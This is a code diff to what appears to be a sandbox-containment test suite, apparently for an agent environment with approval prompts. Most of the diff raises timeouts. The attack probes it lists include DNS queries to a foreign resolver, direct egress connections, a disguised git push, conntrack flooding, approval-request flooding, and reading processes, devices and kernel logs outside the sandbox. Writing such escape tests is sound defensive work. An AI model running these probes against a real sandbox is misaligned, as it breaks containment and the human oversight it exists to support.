@@ -38,7 +38,7 @@ class Attack:
 
 def _tcp(address: str, port: int, family: str = "AF_INET") -> str:
     return f"""
-s = socket.socket(socket.{family}); s.settimeout(20); s.connect(({address!r}, {port}))
+s = socket.socket(socket.{family}); s.settimeout(60); s.connect(({address!r}, {port}))
 won(answer(s)[-60:])
 """
 
@@ -66,7 +66,7 @@ def _get(target: str, *fields: str, host: str = "api.demo.test") -> str:
     """Leaves api.demo.test's answer to this GET, with that Host, in `a`."""
     request = "\r\n".join([f"GET {target} HTTP/1.1", f"Host: {host}", *fields, "Connection: close", "", ""]).encode()
     return f"""
-c = ssl.create_default_context(); s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 20), server_hostname='api.demo.test')
+c = ssl.create_default_context(); s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 60), server_hostname='api.demo.test')
 a = answer(s, {request!r})
 """
 
@@ -92,7 +92,7 @@ head = subprocess.run(['git', 'ls-remote', 'https://git.demo.test/acme/app.git',
 command = '0' * 40 + ' ' + head + ' refs/heads/{name}\\0 report-status'
 nothing = b'PACK' + struct.pack('>II', 2, 0)
 body = f'{{len(command) + 4:04x}}{{command}}0000'.encode() + nothing + hashlib.sha1(nothing).digest()
-c = ssl.create_default_context(); s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 20), server_hostname='api.demo.test')
+c = ssl.create_default_context(); s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 60), server_hostname='api.demo.test')
 a = answer(s, b'POST /v1/reports/acme/app.git/{spelled} HTTP/1.1\\r\\nHost: api.demo.test\\r\\nConnection: close\\r\\n'
               b'Content-Type: application/x-git-receive-pack-request\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)
 won(a) if b'ok refs/heads/{name}' in a else lost(a)
@@ -132,7 +132,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'\\xc0' + b'0' *
 """, wire="udp"),
     Attack("dns-to-a-foreign-resolver", "P2", "fence", """
 q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x08unlisted\\x04test\\x00\\x00\\x01\\x00\\x01'
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8); s.sendto(q, ('203.0.113.53', 53)); a = s.recv(512)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60); s.sendto(q, ('203.0.113.53', 53)); a = s.recv(512)
 won(a) if bytes([198, 51, 100, 66]) in a else lost(a)
 """, wire="udp"),
     Attack("multicast", "P2", "kernel", """
@@ -146,7 +146,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b'out', ('224.0.
     Attack("listed-name-other-host", "P2", "name-check", _get("/v1/x", host="git.demo.test") + SERVED),
     Attack("listed-name-other-sni", "P2", "name-check", """
 c = ssl.create_default_context(); c.check_hostname = False
-s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 20), server_hostname='git.demo.test')
+s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 60), server_hostname='git.demo.test')
 a = answer(s, b'GET /v1/x HTTP/1.1\\r\\nHost: api.demo.test\\r\\nConnection: close\\r\\n\\r\\n')
 """ + SERVED),
     Attack("listed-host-unlisted-path", "P2", "policy", _get("/admin") + SERVED),
@@ -167,7 +167,7 @@ a = answer(s, b'GET /v1/x HTTP/1.1\\r\\nHost: api.demo.test\\r\\nConnection: clo
     _disguised("with-parameters", "git-receive-pack;x=1"),
     _disguised("with-a-dot-behind", "git-receive-pack."),
     _disguised("with-a-slash-behind", "git-receive-pack/"),
-    Attack("egress-port-directly", "P2", "fence", "won(socket.create_connection(('198.18.0.1', 15001), 20))"),
+    Attack("egress-port-directly", "P2", "fence", "won(socket.create_connection(('198.18.0.1', 15001), 60))"),
     Attack("shield-console-from-inside", "P4", "fence", _tcp("198.18.0.1", 8711)),
     Attack("shield-console-by-uplink-address", "P4", "fence", _tcp("203.0.113.10", 8711)),
     # Each takes a place in conntrack's table, which a person's ssh needs too: 1,000 at once and 400 a second are let through.
@@ -186,12 +186,14 @@ for third in range(1, 121):
 seconds = time.monotonic() - start
 won(f'{sent} in {seconds:.1f} s') if sent > 1000 + 400 * (seconds + 1) else lost(f'{sent} in {seconds:.1f} s, which the limit allows')
 """),
-    # 30 at once and one each 2 s: as many more as are let through while they are asked.
+    # 30 at once and one each 2 s are let through.
     Attack("ask-without-end", "P4", "allowance", ASKING + """
+start = time.monotonic()
 for _ in range(60):
     said = asked()
     if b'waiting for approval' not in said: lost(said)
-won('60 questions')
+seconds = time.monotonic() - start
+won(f'60 in {seconds:.1f} s') if 60 > 30 + (seconds + 1) / 2 else lost(f'60 in {seconds:.1f} s, which the allowance lets through')
 """),
     # P3: no system file, firewall, profile, log, foreign process.
     Attack("see-processes-outside", "P3", "namespaces", """
@@ -246,7 +248,7 @@ hits = [n for n in os.listdir('/dev') if n.startswith(('vport', 'hvc', 'vd', 'sd
 won(hits) if hits else lost('none')
 """),
     Attack("gate-socket", "P4", "namespaces", """
-s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.settimeout(5); s.connect('/run/anchorhold/gate'); won('connected')
+s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.settimeout(60); s.connect('/run/anchorhold/gate'); won('connected')
 """),
     Attack("dmesg", "P3", "capabilities", _call(103, "3, ctypes.create_string_buffer(4096), 4096")),
     Attack("take-every-open-file", "P6", "sysctls", """
